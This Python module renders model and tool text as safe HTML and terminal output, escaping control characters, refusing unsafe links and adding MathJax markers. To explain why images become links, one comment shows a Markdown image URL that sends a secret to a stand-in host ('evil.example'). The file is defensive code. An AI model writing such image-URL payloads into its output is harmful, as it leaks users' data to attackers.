"""Text → safe HTML, below the core: Markdown answers, typed outputs as tables, clipping.

Used by the result's own ``_repr_html_`` and by the views. Every piece of model or tool text reaches HTML either
through :func:`html.escape` or through :func:`render_markdown` (markdown-it-py, CommonMark, raw HTML disabled,
unsafe link schemes refused), so nothing a model or a tool writes is ever executed by a front end.

Math: ``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]`` and top-level amsmath environments (``\\begin{align}…``) are
parsed by mdit-py-plugins (dollarmath, texmath's bracket rules, amsmath) before emphasis and backslash escapes, and
written back *verbatim* (delimiters included, HTML-escaped) inside ``<span|div class="math … mathjax_process">``.
Everything else we emit sits inside :data:`NO_TYPESET` (``mathjax_ignore``), so a front end's MathJax (JupyterLab,
Notebook 7 typeset HTML outputs) typesets exactly those spans and never a stray ``$`` in prose; elsewhere the
reader sees the source as written. Dollar rule (pandoc's): no space just inside the ``$`` delimiters and no digit
right after the closing one, so ``$5 and $10`` stays text; ``\\$`` is a literal dollar. ``\\[…\\]`` is math
inside a paragraph too (as in Jupyter's Markdown cells), so a closed pair of escaped brackets is read as math.
"""

from __future__ import annotations

import json
import re
from functools import lru_cache
from html import escape
from typing import Any

# MathJax 3/4 skip elements with this class (and their children) unless a child opts back in with
# ``mathjax_process``; ``tex2jax_ignore`` is the MathJax 2 name (classic Notebook).
NO_TYPESET = "mathjax_ignore tex2jax_ignore"
# Inline styles for the tables of batch and map results: a saved notebook keeps no stylesheet, and JupyterLab's
# rendered HTML right-aligns table cells, stripes rows only as wide as their text and lays tables out "fixed"
# (equal columns; a 100%-wide cell then squeezes the others to nothing): columns sized by their content here, the
# short ones never wrapped, the last (the answer) taking the rest; no margin (JupyterLab's 1em under every table).
TABLE_STYLE = "border-collapse:collapse;width:100%;table-layout:auto;margin:0"
CELL_STYLE = "text-align:left;vertical-align:top;padding:1px 8px"
SHORT_CELL_STYLE = CELL_STYLE + ";white-space:nowrap"
WIDE_CELL_STYLE = CELL_STYLE + ";width:100%;white-space:pre-wrap"
_TYPESET = "mathjax_process tex2jax_process"
_CLOSING = {"$": "$", "$$": "$$", "\\(": "\\)", "\\[": "\\]"}


def _visible(code: int) -> str:
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


# C0 controls except tab and newline, DEL, C1 controls (8-bit CSI/OSC/ST...), and the bidirectional overrides
# and isolates ("Trojan Source": they reorder what a reader sees). Each becomes its visible escape (ESC → "\x1b"):
# one character at a time, so a sequence split across streamed chunks is made harmless chunk by chunk.
_TERMINAL_TABLE = {code: _visible(code) for code in
                   [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F),
                    *range(0x2066, 0x206A)]}


def terminal_safe(text: str) -> str:
    """Model, tool or server text made safe to write to a terminal: control characters (ESC and with it every
    CSI/OSC sequence — cursor moves, screen clears, OSC 52 clipboard writes, OSC 8 hidden links —, other
    C0/C1 controls, bidi overrides) are shown as visible escapes such as ``\\x1b``, never interpreted. Newline
    and tab stay; ``\\r\\n`` becomes ``\\n`` (a lone ``\\r`` would let text overwrite its own line)."""
    return text.replace("\r\n", "\n").translate(_TERMINAL_TABLE)


def json_container(text: str) -> dict[str, Any] | list[Any] | None:
    """``text`` parsed when it is a JSON object or array (what tools that return dicts produce), else None."""
    stripped = text.strip()
    if stripped[:1] not in ("{", "["):
        return None
    try:
        value = json.loads(stripped)
    except ValueError:
        return None
    return value if isinstance(value, (dict, list)) else None


def shorten(text: str, limit: int) -> str:
    """``text`` in at most ``limit`` characters, the last one "…" when it was cut (a line of a table or note)."""
    return text if len(text) <= limit else text[: limit - 1] + "…"


def end_sentence(text: str) -> str:
    """``text`` with a full stop, unless it already ends its sentence ("… in Paris." stays as it is)."""
    return text if text.endswith((".", "!", "?")) else text + "."


def clip(text: str, limit: int) -> str:
    if len(text) <= limit:
        return text
    return text[:limit] + f"… [{len(text) - limit} more characters]"


@lru_cache(maxsize=1)
def _markdown() -> Any:
    from markdown_it import MarkdownIt

    # CommonMark + GFM tables and strikethrough; html=False turns raw HTML into text; linkify off.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])

    def link_open(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
        tokens[idx].attrSet("target", "_blank")
        tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
        return renderer.renderToken(tokens, idx, options, env)

    def image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
        # Images are not fetched: a model-written image URL is a classic exfiltration channel
        # (``![](https://evil.example/?q=<secret>)``). Show a link the reader may follow instead.
        token = tokens[idx]
        src = escape(token.attrGet("src") or "")
        alt = escape(renderer.renderInlineAsText(token.children or [], options, env) or "image")
        return f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">🖼 {alt}</a>'

    md.add_render_rule("link_open", link_open)
    md.add_render_rule("image", image)
    _add_math(md)
    return md


def _add_math(md: Any) -> None:
    from mdit_py_plugins.amsmath import amsmath_plugin
    from mdit_py_plugins.dollarmath import dollarmath_plugin
    from mdit_py_plugins.texmath import texmath_plugin

    # allow_space/allow_digits off = pandoc's rule, so prices ("$5 and $10") stay text.
    dollarmath_plugin(md, allow_labels=True, allow_space=False, allow_digits=False, double_inline=True)
    texmath_plugin(md, delimiters="brackets")  # \(…\) and \[…\]; same token names as dollarmath's
    amsmath_plugin(md)
    # texmath parses \[…\] only as a block starting a paragraph; models also write it inside one (after
    # "The formula is:" on the line above). Same rule shape as texmath's own \(…\) rule, for display math.
    from mdit_py_plugins.texmath.index import make_inline_func

    md.inline.ruler.before("escape", "math_inline_brackets", make_inline_func(
        {"name": "math_inline_double", "rex": re.compile(r"^\\\[(.+?)\\\]", re.DOTALL), "tmpl": "{0}",
         "tag": "\\["}))

    def math(block: bool) -> Any:
        def render(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
            token = tokens[idx]
            opening = token.markup or ""
            source = f"{opening}{token.content}{_CLOSING.get(opening, opening)}"
            if token.info and token.type in ("math_block_label", "math_block_eqno"):
                source += f" ({token.info})"
            if block:
                return f'<div class="math block {_TYPESET}">{escape(source, quote=False)}</div>\n'
            # inside a paragraph (``$$…$$`` too: the delimiters tell the typesetter to display it)
            return f'<span class="math inline {_TYPESET}">{escape(source, quote=False)}</span>'
        return render

    for name in ("math_inline", "math_inline_double"):
        md.add_render_rule(name, math(False))
    for name in ("math_block", "math_block_label", "math_block_eqno", "amsmath"):
        md.add_render_rule(name, math(True))


@lru_cache(maxsize=256)
def render_markdown(text: str) -> str:
    """Markdown → safe HTML (raw HTML shown as text; ``javascript:``/``vbscript:``/``file:``/non-image
    ``data:`` links refused by markdown-it's ``validateLink``). Cached: views re-render on every flush."""
    return f'<div class="mm-md {NO_TYPESET}">{_markdown().render(text)}</div>'


def _plain(value: Any) -> Any:
    """A typed output as plain data (pydantic models, dataclasses → dicts)."""
    import dataclasses

    dump = getattr(value, "model_dump", None)
    if callable(dump):
        return dump(mode="json")
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.asdict(value)
    return value


def output_html(value: Any, depth: int = 0) -> str:
    """A typed output as a small table (objects), list (sequences) or value; nested levels as a tree."""
    data = _plain(value)
    if depth > 4:
        return f"<code>{escape(clip(json.dumps(data, default=str), 300))}</code>"
    if isinstance(data, dict):
        name = type(value).__name__ if depth == 0 and not isinstance(value, dict) else ""
        caption = f'<caption style="text-align:left;color:#57606a">{escape(name)}</caption>' if name else ""
        rows = "".join(f'<tr><th style="text-align:left;padding-right:12px">{escape(str(k))}</th>'
                       f"<td>{output_html(v, depth + 1)}</td></tr>" for k, v in list(data.items())[:100])
        return f'<table class="mm-output-table">{caption}{rows}</table>'
    if isinstance(data, (list, tuple)):
        items = "".join(f"<li>{output_html(v, depth + 1)}</li>" for v in list(data)[:100])
        more = f"<li>… {len(data) - 100} more</li>" if len(data) > 100 else ""
        return f'<ol class="mm-output-list" start="0" style="margin:0">{items}{more}</ol>'
    return f"<code>{escape(clip(str(data), 1000))}</code>"
